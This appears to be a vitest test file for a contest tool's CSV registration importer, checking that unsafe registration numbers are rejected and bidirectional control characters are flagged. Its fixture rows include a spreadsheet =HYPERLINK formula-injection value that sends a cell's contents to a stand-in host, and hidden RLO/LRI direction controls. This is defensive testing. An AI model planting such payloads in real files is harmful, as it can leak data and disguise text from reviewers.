// Issue 11, item 6 (import side): registration numbers take only letters (CJK included), digits and
// - _ / . — anything else is a coded row error naming the spreadsheet row; bidirectional control
// characters are refused in identifiers and flagged (a warning, the row still imported) in text.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CampaignSummary } from '../../../src-main/contract';
import { createNodeI18n } from '../../../src-main/app/translate';
import { importRegistrations, previewImport } from '../../../src-main/core/intake/import-registrations';
import { openTestApp, repoRoot, tempDir } from '../../helpers';

const RLO = '\u202E';
const LRI = '\u2066';
const HEADER = '报名编号,申报类型,作品类别,作品名称,作者,联系电话,推荐理由,提交时间';
const rows = [
  `SC-0001,作品,视频,七步${RLO}法手洗,李晓雯,13800138000,原创,2023-12-10 09:30`, // 2: title flagged
  'SC 0002,作品,视频,空格编号,李晓雯,13800138000,原创,2023-12-10 09:30', // 3: space
  '"=HYPERLINK(""http://x.cn/?""&B2,""点我"")",作品,视频,公式编号,李晓雯,13800138000,原创,2023-12-10 09:30', // 4: formula
  `SC-0003${RLO}1000,作品,视频,反转编号,李晓雯,13800138000,原创,2023-12-10 09:30`, // 5: bidi in reg no
  '-1,作品,视频,减号开头,李晓雯,13800138000,原创,2023-12-10 09:30', // 6: leading '-'
  '科普-2023/001.A_b,作品,视频,合规编号,李晓雯,13800138000,原创,2023-12-10 09:30', // 7: fine
  '..,作品,视频,点号编号,李晓雯,13800138000,原创,2023-12-10 09:30', // 8: dots only
  `SC-0009,作品${LRI},视频,类型反转,李晓雯,13800138000,原创,2023-12-10 09:30`, // 9: bidi in the kind
  `SC-0010,作品,图文,正常标题,王${LRI}建国,13900139000,${'理由'.repeat(40)}${RLO}尾,2023-12-11 14:00`, // 10: two text fields flagged
];
const csv = Buffer.from(`\ufeff${HEADER}\r\n${rows.join('\r\n')}\r\n`, 'utf8');

function setup() {
  const app = openTestApp();
  const template = app.ctx.templates.get('sichuan-influence-2023');
  const campaign: CampaignSummary = app.ctx.campaigns.create(template.id, template.definition);
  return { ...app, campaign };
}

describe('identifiers in registration files', () => {
  it('refuses unsafe registration numbers per row, with the row number and a code, and imports the rest', async () => {
    const { ctx, campaign } = setup();
    const report = await importRegistrations(ctx, campaign.id, { fileName: 'hostile.csv', bytes: csv });
    const codes = Object.fromEntries(report.rejected.map((r) => [r.row, r.errors.map((e) => e.code)]));
    expect(codes).toEqual({ 3: ['ROW_BAD_REG_NO'], 4: ['ROW_BAD_REG_NO'], 5: ['ROW_BAD_REG_NO'], 6: ['ROW_BAD_REG_NO'], 8: ['ROW_BAD_REG_NO'], 9: ['ROW_UNKNOWN_KIND'] });
    expect(report.added).toEqual([2, 7, 10]);
    // The quoted value and the reported number show the control as a marker, never raw.
    const reversed = report.rejected.find((r) => r.row === 5)!;
    expect(reversed.regNo).toBe('SC-0003[U+202E]1000');
    expect(reversed.errors[0]).toMatchObject({ target: 'sys.regNo', column: 0, value: 'SC-0003[U+202E]1000' });
    expect(report.rejected.find((r) => r.row === 9)!.errors[0]).toMatchObject({ target: 'sys.kind', value: '作品[U+2066]' });
    expect(JSON.stringify(report)).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    const stored = ctx.db.prepare('SELECT reg_no FROM entries ORDER BY reg_no').pluck().all();
    expect(stored).toEqual(['SC-0001', 'SC-0010', '科普-2023/001.A_b']);
    ctx.close();
  });

  it('flags text fields holding bidi controls: imported as they are, a translated warning per field', async () => {
    const { ctx, campaign } = setup();
    const preview = await previewImport(ctx, campaign.id, { fileName: 'hostile.csv', bytes: csv });
    expect(preview.rejectedCount).toBe(6);
    const first = preview.rows[0];
    expect(first.errors).toEqual([]);
    expect(first.warnings).toEqual([{ code: 'ROW_BIDI_CONTROL', target: 'field.title', column: 3, value: '七步[U+202E]法手洗' }]);
    expect(first.cells[3]).toBe('七步[U+202E]法手洗');

    const report = await importRegistrations(ctx, campaign.id, { fileName: 'hostile.csv', bytes: csv });
    expect(report.flagged.map((f) => [f.row, f.regNo, f.warnings.map((w) => w.target)])).toEqual([
      [2, 'SC-0001', ['field.title']],
      [10, 'SC-0010', ['field.authors', 'field.reason']],
    ]);
    // A long field is quoted around its first control only.
    const reason = report.flagged[1].warnings[1].value;
    expect(reason).toMatch(/^…(理由)+\[U\+202E\]尾$/);
    expect(reason.length).toBeLessThan(80);
    // Flagged, not changed: the stored title is what the file holds.
    expect(ctx.db.prepare(`SELECT title FROM entries WHERE reg_no = 'SC-0001'`).pluck().get()).toBe(`七步${RLO}法手洗`);

    for (const language of ['zh-CN', 'en'] as const) {
      const i18n = createNodeI18n(language);
      const text = i18n.t(`intake.rowErrors.${report.flagged[0].warnings[0].code}`, { field: '作品名称', value: report.flagged[0].warnings[0].value });
      expect(text).toContain('七步[U+202E]法手洗');
      expect(text).not.toContain('intake.rowErrors');
      expect(i18n.t('intake.rowErrors.ROW_BAD_REG_NO', { field: 'x', value: 'y' })).not.toContain('intake.rowErrors');
    }
    ctx.close();
  });

  it('kepu import lists rejected and flagged rows, translated', () => {
    const dataDir = tempDir();
    const file = path.join(dataDir, 'hostile.csv');
    fs.writeFileSync(file, csv);
    const app = openTestApp(dataDir);
    const template = app.ctx.templates.get('sichuan-influence-2023');
    const campaign = app.ctx.campaigns.create(template.id, template.definition);
    app.ctx.close();
    const run = spawnSync(process.execPath, [path.join(repoRoot, 'bin/kepu.mjs'), 'import', file, '--campaign', campaign.id, '--data-dir', dataDir], {
      encoding: 'utf8',
      env: { ...process.env, KEPU_LANG: 'zh-CN' },
    });
    expect(run.status).toBe(1); // some rows were rejected
    expect(run.stdout).toContain('第 5 行：报名编号“SC-0003[U+202E]1000”只能包含拉丁字母或汉字');
    expect(run.stdout).toContain('第 2 行（已导入，请核查）：作品名称含有不可见的文字方向控制字符');
    expect(run.stdout).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    fs.rmSync(dataDir, { recursive: true, force: true });
  }, 60_000);

  it('imports a UTF-32BE file end to end, detected from its byte-order mark', async () => {
    const { ctx, campaign } = setup();
    const text = `\ufeff${HEADER}\r\nSC-0001,作品,视频,七步洗手法,李晓雯,13800138000,原创,2023-12-10 09:30\r\n`;
    const points = [...text].map((c) => c.codePointAt(0)!);
    const bytes = Buffer.alloc(points.length * 4);
    points.forEach((p, i) => bytes.writeUInt32BE(p, i * 4));
    const report = await importRegistrations(ctx, campaign.id, { fileName: 'utf32.csv', bytes });
    expect(report).toMatchObject({ encoding: 'utf-32be', added: [2], rejected: [] });
    expect(ctx.db.prepare(`SELECT title FROM entries WHERE reg_no = 'SC-0001'`).pluck().get()).toBe('七步洗手法');
    ctx.close();
  });
});
